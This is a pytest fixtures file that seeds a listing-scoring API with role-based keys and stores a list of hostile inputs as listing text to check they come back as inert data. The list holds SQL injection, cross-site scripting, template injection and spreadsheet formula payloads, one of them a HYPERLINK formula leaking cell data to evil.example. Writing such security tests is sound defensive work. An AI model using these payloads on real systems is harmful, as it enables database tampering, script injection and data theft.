"""Security fixtures: the real app over a real SQLite store, a key per role, hostile listings stored."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, select

from api.app import create_app
from store.apikeys import create_api_key, revoke_api_key
from store.db import make_engine, make_session_factory, migrate, session_scope
from store.listings import ListingIn, SnapshotIn, upsert_listings
from store.models import ApiKey, Listing
from store.scores import ScoreIn, record_scores
from store.snapshots import SnapshotStore
from tests.fakes import FakeModel
from core.settings import Settings

ROLES = ("analyst", "moderator", "admin")

#: Stored as listing text: each must come back verbatim as data and never run anywhere.
PAYLOADS = [
    "'; DROP TABLE listings; --",
    "1' OR '1'='1",
    "象牙\" UNION SELECT key_hash, name FROM api_keys --",
    "%' AND 1=(SELECT COUNT(*) FROM sqlite_master) AND '%'='",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "{{ 7*7 }}{% raw %}${7*7}",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"ivory\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@dataclass
class SecureWorld:
    client: TestClient
    keys: dict[str, str]
    revoked_key: str
    listing_ids: list[int]
    hostile_ids: dict[str, int]
    engine: Engine
    snapshot_dir: Path

    def headers(self, role: str | None) -> dict[str, str]:
        return {} if role is None else {"Authorization": f"Bearer {self.keys[role]}"}


def _listing(url: str, title: str, description: str, snapshot: SnapshotIn | None = None) -> ListingIn:
    return ListingIn(url=url, marketplace="evil.example", title=title, description=description, lang="en",
                     seller_url="https://evil.example/seller/1", seller_name=title[:40], snapshot=snapshot)


@contextmanager
def sqlite_world(tmp_path: Path, **api: object) -> Iterator[SecureWorld]:
    """The world on a new SQLite file under ``tmp_path`` (``api``: ApiSettings overrides)."""
    tmp_path.mkdir(parents=True, exist_ok=True)
    engine = make_engine(f"sqlite:///{tmp_path / 'security.db'}")
    migrate(engine)
    worlds = build_world(engine, tmp_path, **api)
    try:
        yield next(worlds)
    finally:
        worlds.close()
        engine.dispose()


@pytest.fixture
def world(tmp_path: Path) -> Iterator[SecureWorld]:
    """The world on a SQLite file."""
    with sqlite_world(tmp_path) as world:
        yield world


@pytest.fixture
def any_world(engine: Engine, tmp_path: Path) -> Iterator[SecureWorld]:
    """The world on SQLite and on PostgreSQL (``engine`` is parametrised over both)."""
    yield from build_world(engine, tmp_path)


def build_world(engine: Engine, tmp_path: Path, **api: object) -> Iterator[SecureWorld]:
    """Seed ``engine`` and serve it (``api``: ApiSettings overrides) through a TestClient."""
    url = engine.url.render_as_string(hide_password=False)
    snapshot_dir = tmp_path / "snapshots"
    blob = SnapshotStore(snapshot_dir).save(b"<html><body>evidence</body></html>")
    snapshot = SnapshotIn(url="https://evil.example/item/0", http_status=200, sha256=blob.sha256, path=blob.path,
                          size=blob.size)
    sessions = make_session_factory(engine)
    with session_scope(sessions) as session:
        items = [_listing("https://evil.example/item/0", "象牙手镯 ivory", "genuine", snapshot)]
        items += [_listing(f"https://evil.example/item/p{i}", f"象牙 {p}", p) for i, p in enumerate(PAYLOADS)]
        upsert_listings(session, items)
        rows = list(session.scalars(select(Listing).order_by(Listing.id)))
        record_scores(session, [ScoreIn(r.id, r.content_hash, 0.9, True, ["elephant"], [f"lexicon: {r.title}"])
                                for r in rows], model_version="fake-1", threshold=0.5)
        keys = {role: create_api_key(session, role=role, name=f"sec {role}")[1] for role in ROLES}
        revoked_key = create_api_key(session, role="admin", name="sec revoked")[1]
        revoked = session.scalars(select(ApiKey).where(ApiKey.name == "sec revoked")).one()
        revoke_api_key(session, revoked.id)
        ids = [r.id for r in rows]
        hostile = {r.description: r.id for r in rows if r.description in PAYLOADS}
    settings = Settings(database_url=url, var_dir=tmp_path)
    settings.crawler.snapshot_dir = snapshot_dir
    settings.api.rate_limit_per_minute = 0
    for name, value in api.items():
        setattr(settings.api, name, value)
    app = create_app(settings, engine=engine, model=FakeModel())
    with TestClient(app, base_url="http://testserver") as client:
        yield SecureWorld(client, keys, revoked_key, ids, hostile, engine, snapshot_dir)


def pytest_terminal_summary(terminalreporter: pytest.TerminalReporter) -> None:
    from tests.faults.tally import report

    report(terminalreporter)
